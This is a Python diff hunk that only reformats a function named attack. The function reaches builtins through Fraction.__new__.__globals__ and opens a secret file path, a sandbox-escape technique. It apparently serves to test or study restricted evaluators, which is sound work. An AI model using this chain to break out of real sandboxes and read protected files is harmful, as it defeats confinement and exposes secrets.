@@ -6,5 +6,7 @@ def attack(secret_path):
     steps = ("__new__", "__globals__")
     from fractions import Fraction
 
-    found = reduce(lambda value, name: getattr(value, name), steps, partial(Fraction).func)
+    found = reduce(
+        lambda value, name: getattr(value, name), steps, partial(Fraction).func
+    )
     return found["__builtins__"]["open"](secret_path).read()
